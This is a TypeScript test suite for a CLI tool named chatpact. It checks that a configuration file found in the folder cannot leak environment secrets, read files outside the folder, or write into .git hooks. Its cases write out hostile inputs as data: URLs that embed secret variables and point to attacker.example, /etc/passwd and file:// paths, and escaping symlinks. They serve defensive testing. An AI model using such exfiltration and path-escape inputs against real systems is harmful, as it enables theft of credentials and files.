import { mkdirSync, readdirSync, readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, onTestFinished, test, vi } from 'vitest';
import { twinCredentials } from '../contracts/check-reference-server.ts';
import { messagesSent } from '../faulty/fault.ts';
import { writeReferenceDocument } from '../faulty/reference-document.ts';
import { startReferenceServer } from '../faulty/reference-server.ts';
import { serve } from '../serve.ts';
import { workInFolder } from './folder.ts';
import { runCli } from './run-cli.ts';

// A configuration that lies in the folder may have come with a foreign checkout. Each attack has a twin that is right.

const secret = 'hunter2-hunter2-of-another-program';
const folder = workInFolder({ ...twinCredentials, OTHER_SECRET: secret });
const from = (variable: string) => `\${${variable}}`;

let twin: Awaited<ReturnType<typeof startReferenceServer>>;
let document: string;
/** A server of the attacker's: what it was asked, headers and all. */
let asked: string[] = [];
let attacker: Awaited<ReturnType<typeof serve>>;

beforeAll(async () => {
  document = readFileSync(await writeReferenceDocument('rocketchat'), 'utf8');
  twin = await startReferenceServer();
  attacker = await serve((request, response) => {
    asked.push(`${request.url} ${JSON.stringify(request.headers)}`);
    response.writeHead(404).end();
  });
});
afterAll(async () => {
  await twin.close();
  await attacker.close();
});
beforeEach(() => {
  asked = [];
  folder.write('api.yaml', document);
});

const config = 'chatpact.config.yaml';
/** Writes the configuration: a target, and what stands in it besides. */
const write = (settings: string, url = twin.url) =>
  folder.write(config, `targets:\n  staging:\n    url: ${url}\n    vendor: rocketchat\n    ${settings}\n`);
const quick = 'retries: 0, maxRequests: 3, requestTimeout: 5';
const short = quick.replaceAll(', ', '\n    ');
/** Every file below the folder but the configuration, with its text. */
const written = () =>
  readdirSync(folder.path, { recursive: true, encoding: 'utf8', withFileTypes: true })
    .filter((entry) => entry.isFile() && entry.name !== config)
    .map((entry) => `${entry.name}: ${readFileSync(join(entry.parentPath, entry.name), 'utf8')}`)
    .join('\n');

async function check(...words: string[]) {
  const { exitCode, stdout, stderr } = await runCli('check', ...words);
  return { exitCode, stdout, stderr, all: `${stdout}\n${stderr}\n${written()}\n${asked.join('\n')}` };
}

describe('A configuration that was found sends no variable of other programs', () => {
  const place = `${from('OTHER_SECRET')}`;
  test.each<[what: string, url: (base: string) => string, settings: string, key: string]>([
    ['in the path of a target', (base) => `${base}/${place}`, short, 'url'],
    ['as the host of a target', () => `http://${place}.attacker.example`, short, 'url'],
    ['in its query', (base) => `${base}/?q=${place}`, short, 'url'],
    ['as its user', (base) => base.replace('//', `//${place}@`), short, 'url'],
    ['as a default that is not needed', (base) => `${base}/\${OTHER_SECRET:-x}`, short, 'url'],
    ['to a console', (base) => base, `console: http://127.0.0.1:9/${place}`, 'console'],
    ['to where a document is', (base) => base, `spec: http://127.0.0.1:9/${place}.yaml`, 'spec'],
    ['to where a ledger is', (base) => base, `overlay: ['http://127.0.0.1:9/?${place}']`, 'overlay.0'],
    ['as an id', (base) => base, `ids: { room: '${place}' }`, 'ids.room'],
    [
      'as the value of a parameter',
      (base) => base,
      `operations: { get-channels: { parameters: { query: '${place}' } } }`,
      'operations.get-channels.parameters.query',
    ],
    ['in the name of a report', (base) => base, `reports: ['json=out-${place}.json']`, 'reports.0'],
    ['in the name of proposals', (base) => base, `proposeOverlay: '${place}.yaml'`, 'proposeOverlay'],
  ])('%s', async (_, toUrl, settings, key) => {
    write(settings, toUrl(attacker.url));
    for (const words of [['staging'], ['--all'], ['staging', '--dry-run']]) {
      const { exitCode, stderr, all } = await check(...words);
      expect([exitCode, asked]).toEqual([2, []]);
      expect(stderr).toMatch(/^chatpact: chatpact\.config\.yaml:\d+: /);
      expect(stderr).toContain(
        `targets.staging.${key} takes ${place} in a configuration that was found in the folder, not passed with --config`,
      );
      expect(stderr).toContain(`If you trust this file, name it: --config ${config}. [UNTRUSTED_CONFIG]`);
      expect(all).not.toContain(secret);
    }
  });

  test.each([
    ['CHATPACT_ROCKETCHAT_TOKEN', 'and CHATPACT_ROCKETCHAT_TOKEN holds a credential'],
    ['CHATPACT_ADMIN_TOKEN', 'and CHATPACT_ADMIN_TOKEN holds a credential'],
    ['CHATPACT_LOG', 'and CHATPACT_LOG holds a credential'],
    ['CHATPACT_OTHER_PASSWORD', 'and CHATPACT_OTHER_PASSWORD holds a credential'],
  ])('nor %s in a URL', async (name, reason) => {
    vi.stubEnv(name, secret);
    write(short, `${attacker.url}/${from(name)}`);
    const { exitCode, stderr } = await check('staging');
    expect([exitCode, stderr, asked]).toEqual([2, expect.stringContaining(reason), []]);
  });

  test.each([
    ['OTHER_SECRET', 'which may send only variables named CHATPACT_*'],
    ['CHATPACT_ADMIN_TOKEN', 'and CHATPACT_ADMIN_TOKEN is only for this machine'],
    ['CHATPACT_LOG', 'and CHATPACT_LOG is only for this machine'],
    ['CHATPACT_KEY_PASSPHRASE', 'and CHATPACT_KEY_PASSPHRASE is only for this machine'],
  ])('nor %s in the place of a credential', async (name, reason) => {
    vi.stubEnv(name, secret);
    write(`env: { CHATPACT_ROCKETCHAT_TOKEN: ${name} }`, attacker.url);
    const { exitCode, stderr, all } = await check('staging');
    expect([exitCode, stderr]).toEqual([2, expect.stringContaining(reason)]);
    expect(stderr).toMatch(/config\.yaml:5: targets\.staging\.env\.CHATPACT_ROCKETCHAT_TOKEN takes /);
    expect(all).not.toContain(secret);
    // What is named is trusted, as the command line is.
    await check('staging', '--config', config, '--retries', '0');
    expect(asked.join()).toContain(secret);
  });

  test('and tells the doctor nothing of them', async () => {
    write(short, `${attacker.url}/${place}`);
    const { stdout, stderr, exitCode } = await runCli('doctor', 'staging', '--port', '0');
    expect([exitCode, asked]).toEqual([2, []]);
    expect(stdout + stderr).not.toContain(secret);
  });

  test('but those called CHATPACT_…, to where they are meant to go', async () => {
    vi.stubEnv('CHATPACT_STAGING_URL', twin.url);
    vi.stubEnv('CHATPACT_STAGING_TOKEN', twinCredentials.CHATPACT_ROCKETCHAT_TOKEN);
    vi.stubEnv('CHATPACT_ROCKETCHAT_TOKEN', 'of-another-server');
    const more = `spec: api.yaml\n    env: { CHATPACT_ROCKETCHAT_TOKEN: CHATPACT_STAGING_TOKEN }\n    maxRequests: 9`;
    write(more, from('CHATPACT_STAGING_URL'));
    const { exitCode, stdout, stderr } = await check('staging');
    expect([exitCode, stderr]).toEqual([4, '']);
    expect(stdout).toContain(`Checking ${twin.url}/ against the contract of rocketchat.`);
  });

  test('and takes numbers, times and choices from any, since they are held to their form', async () => {
    const typed = { DAY: '2026-01-01', BUDGET: '2', KIND: 'rocketchat', IS_STRICT: 'true' };
    for (const [name, value] of Object.entries(typed)) vi.stubEnv(name, value);
    const settings = `since: ${from('DAY')}, maxRequests: ${from('BUDGET')}, vendor: ${from('KIND')}, strict: ${from('IS_STRICT')}`;
    folder.write(
      config,
      `targets: { staging: { url: ${twin.url}, spec: api.yaml, ${settings.replaceAll(/\$\{\w+\}/g, "'$&'")} } }`,
    );
    const { exitCode, stdout } = await check('staging', '--report', 'json', '--until', '2026-01-09');
    expect(exitCode).toBe(4);
    expect(JSON.parse(stdout)).toMatchObject({ vendor: 'rocketchat', strict: true });
    expect(JSON.parse(stdout).target.window.since).toContain('2026-01-01');
    write(`since: ${from('OTHER_SECRET')}`);
    const refused = await check('staging');
    expect([refused.exitCode, refused.stderr]).toEqual([
      2,
      expect.stringContaining(`"${from('OTHER_SECRET')}" is neither`),
    ]);
  });

  test('and judges only the target that is asked for', async () => {
    const other = `  other: { url: 'http://127.0.0.1:9/${place}', vendor: chatwoot }\n`;
    folder.write(
      config,
      `targets:\n${other}  staging: { url: '${twin.url}', vendor: rocketchat, spec: api.yaml, ${quick} }\n`,
    );
    expect((await check('staging')).exitCode).toBe(4);
    expect((await check('other')).exitCode).toBe(2);
  });
});

describe('What a named configuration took from the environment', () => {
  const reports = ['pretty', 'json', 'junit', 'html', 'markdown', 'sarif', 'github'];
  const files = reports.flatMap((name) => ['--report', `${name}=out/${name}`]);
  const skip = `operations: { ${messagesSent}: { skip: 'as ${from('OTHER_SECRET')} says' } }`;
  const settings = `spec: api.yaml\n    ${skip}`;

  test.each([
    ['found', []],
    ['named', ['--config', config]],
  ])('stands in no report, plan or recording: %s', async (_, flags) => {
    write(settings);
    const { exitCode, all } = await check('staging', ...flags, ...files, '--record', 'kept');
    expect(exitCode).toBe(0);
    expect(all).not.toContain(secret);
    expect(readFileSync('out/json', 'utf8')).toContain(`as $${'{OTHER_SECRET}'} says`);
    const plan = await check('staging', ...flags, '--dry-run');
    expect(plan.stdout).toContain(`(skipped: as ${from('OTHER_SECRET')} says)`);
    expect(plan.all).not.toContain(secret);
  });

  test('stands in no report where it was in the path of a URL; the address of the server does', async () => {
    vi.stubEnv('STAGING_URL', attacker.url);
    write(`retries: 0`, `${from('STAGING_URL')}/${from('OTHER_SECRET')}`);
    const { stdout, stderr } = await check('staging', '--config', config, ...files);
    expect(asked.join()).toContain(secret);
    asked = [];
    expect(stdout + stderr + written()).not.toContain(secret);
    expect(readFileSync('out/json', 'utf8')).toContain(`${attacker.url}/${from('OTHER_SECRET')}`);
  });

  test('is sent to no console, and stands in no complaint about one', async () => {
    const told: string[] = [];
    const console = await serve(async (request, response) => {
      for await (const chunk of request) told.push(String(chunk));
      response.writeHead(500).end();
    });
    onTestFinished(() => console.close());
    vi.stubEnv('STAGING_URL', attacker.url);
    const line = `console: ${console.url}/${from('OTHER_SECRET')}\n    retries: 0`;
    write(line, `${from('STAGING_URL')}/${from('OTHER_SECRET')}`);
    const { stderr } = await check('staging', '--config', config);
    expect(stderr).toContain(`the console at ${console.url}/${from('OTHER_SECRET')} does not show`);
    expect(told.join()).toContain(`"target":"${attacker.url}/${from('OTHER_SECRET')}`);
    expect(told.join() + stderr).not.toContain(secret);
  });
});

describe('A configuration that was found stays in its folder', () => {
  const away = join('..', 'elsewhere.yaml');
  test.each<[what: string, settings: string, setting: string]>([
    ['credentials', `credentials: ${away}`, 'credentials'],
    ['a document', 'spec: /etc/passwd', 'spec'],
    ['a document by URL', 'spec: file:///etc/passwd', 'spec'],
    ['a document of another machine', 'spec: file://attacker.example/share/a.yaml', 'spec'],
    ['a ledger', `overlay: [api.yaml, ${away}]`, 'overlay'],
    ['an earlier report', `trend: [${away}]`, 'trend'],
    ['a baseline', `baseline: ${away}`, 'baseline'],
    ['proposals', `proposeOverlay: ${away}`, 'proposeOverlay'],
    ['a report', `reports: [pretty, 'json=${away}']`, 'reports'],
    ['a report through a link', `reports: ['json=link/out.json']`, 'reports'],
    ['a report through a link to nothing yet', `reports: ['json=nowhere/out.json']`, 'reports'],
    ['credentials through a link', 'credentials: link.env', 'credentials'],
  ])('with %s', async (_, settings, setting) => {
    mkdirSync('away');
    folder.write('away/other.env', 'CHATPACT_ROCKETCHAT_TOKEN=of-another-program');
    mkdirSync('project');
    process.chdir('project');
    symlinkSync('../away', 'link');
    symlinkSync('../not-yet', 'nowhere');
    symlinkSync('../away/other.env', 'link.env');
    folder.write(
      `project/${config}`,
      `targets:\n  staging:\n    url: ${attacker.url}\n    vendor: rocketchat\n    ${settings}\n`,
    );
    const { exitCode, stderr } = await check('staging');
    expect([exitCode, asked]).toEqual([2, []]);
    expect(stderr).toMatch(
      new RegExp(`config\\.yaml:5: ${setting} ".*" leads out of the folder of this configuration`),
    );
    expect(readdirSync('../away')).toEqual(['other.env']);
  });

  test.each([['.git/hooks/pre-commit'], ['.GIT/config']])('and writes nothing that git runs: %s', async (path) => {
    folder.write('.git/config', 'mine');
    write(`reports: ['markdown=${path}']`);
    const { exitCode, stderr } = await check('staging');
    expect([exitCode, stderr]).toEqual([2, expect.stringContaining('is inside .git')]);
  });

  test('where it reads and writes as it likes', async () => {
    folder.write(
      'staging.env',
      Object.entries(twinCredentials)
        .map((pair) => pair.join('='))
        .join('\n'),
    );
    write(
      `spec: ./api.yaml\n    credentials: staging.env\n    reports: ['json=deep/{target}.json', 'junit=.reports/a.xml']\n    maxRequests: 3`,
    );
    const { exitCode, stderr } = await check('staging');
    expect([exitCode, stderr]).toEqual([4, '']);
    expect(readdirSync('deep')).toEqual(['staging.json']);
  });

  test('unless it is named', async () => {
    mkdirSync('project');
    process.chdir('project');
    folder.write(
      `project/${config}`,
      `targets: { staging: { url: '${twin.url}', vendor: rocketchat, spec: ../api.yaml, reports: ['json=../out.json'], ${quick} } }`,
    );
    expect((await check('staging')).exitCode).toBe(2);
    const { exitCode, stderr } = await check('staging', '--config', config);
    expect([exitCode, stderr]).toEqual([4, '']);
    expect(readdirSync('..')).toContain('out.json');
    vi.stubEnv('CHATPACT_CONFIG', config);
    expect((await check('staging')).exitCode).toBe(4);
  });
});

describe('A URL on the command line', () => {
  const url = () => [twin.url, '--vendor', 'rocketchat', '--max-requests', '3'];

  test('is told which document, baseline and console it gets from a configuration that was found', async () => {
    folder.write(config, `defaults: { spec: api.yaml, console: '${attacker.url}', reports: ['json=out.json'] }`);
    const { stderr, exitCode } = await check(...url());
    expect(exitCode).toBe(4);
    expect(stderr).toContain(`chatpact: ${config} was found here, and sets spec and console.\n`);
    // Nothing to tell: the user says so, or says which file.
    const flags = ['--spec', 'api.yaml', '--console', attacker.url];
    expect((await check(...url(), ...flags)).stderr).not.toContain('was found here');
    expect((await check(...url(), '--config', config)).stderr).not.toContain('was found here');
    folder.write(config, `defaults: { reports: ['json=out.json'], timeout: 60 }`);
    expect((await check(...url(), '--spec', 'api.yaml')).stderr).toBe('');
  });

  test('is neither written to nor believed without a certificate because a file was found', async () => {
    folder.write(config, 'defaults: { allowWrites: true, insecure: true, cacert: ca.pem }');
    const plan = async (...flags: string[]) => (await check(...url(), '--dry-run', ...flags)).stdout;
    const { stderr, exitCode } = await check(...url());
    expect(exitCode).toBe(4);
    expect(stderr).toContain(
      `chatpact: ${config} was found here, and may not set allowWrites, insecure and cacert for a URL: use --allow-writes, --insecure and --cacert, or --config ${config}.\n`,
    );
    expect(await plan()).toBe(await plan('--no-allow-writes'));
    expect(await plan()).not.toBe(await plan('--allow-writes'));
    expect((await check(...url(), '--config', config)).stderr).toContain("Can't read ");
  });

  test('a target of the same file is', async () => {
    write('spec: api.yaml\n    allowWrites: true\n    maxRequests: 3');
    expect(await check('staging')).toMatchObject({ exitCode: 4, stderr: '' });
  });
});

describe('The token of a mock', () => {
  const token = 'the-token-of-a-mock';
  /** An address of this machine that is not loopback's. */
  const elsewhere = 'http://192.0.2.1:4010';

  test('and findings go to no console of another machine that a found configuration names', async () => {
    vi.stubEnv('CHATPACT_ADMIN_TOKEN', token);
    write(`spec: api.yaml\n    console: ${elsewhere}\n    maxRequests: 3`);
    const { exitCode, stderr } = await check('staging');
    expect(exitCode).toBe(4);
    expect(stderr).toBe(
      `chatpact: ${config} was found here, and may not send findings to the console at 192.0.2.1:4010. Pass --console, or --config ${config}.\n`,
    );
  });

  test.each([
    ['a console of this machine', (url: string) => ({ settings: `console: ${url}`, flags: [] as string[] })],
    ['one that the command line names', (url: string) => ({ settings: 'workers: 1', flags: ['--console', url] })],
  ])('go to %s', async (_, toCase) => {
    vi.stubEnv('CHATPACT_ADMIN_TOKEN', token);
    const { settings, flags } = toCase(attacker.url);
    write(`spec: api.yaml\n    maxRequests: 3\n    ${settings}`);
    await check('staging', ...flags);
    expect(asked.join()).toContain(`"authorization":"Bearer ${token}"`);
  });
});
